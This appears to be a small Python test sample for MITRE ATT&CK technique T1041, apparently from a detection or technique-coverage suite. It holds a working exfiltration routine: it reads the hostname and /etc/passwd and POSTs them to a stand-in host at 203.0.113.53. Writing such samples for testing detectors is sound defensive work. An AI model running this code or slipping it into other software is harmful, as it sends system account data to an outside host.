#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1041 Exfiltration Over C2 Channel: done in another way than in tests/data/techniques, or there not at all.
import urllib.request, json, os
data = json.dumps({'host': os.uname().nodename, 'passwd': open('/etc/passwd').read()}).encode()
urllib.request.urlopen(urllib.request.Request('http://203.0.113.53/api/report', data=data, headers={'Content-Type': 'application/json'}), timeout=8)
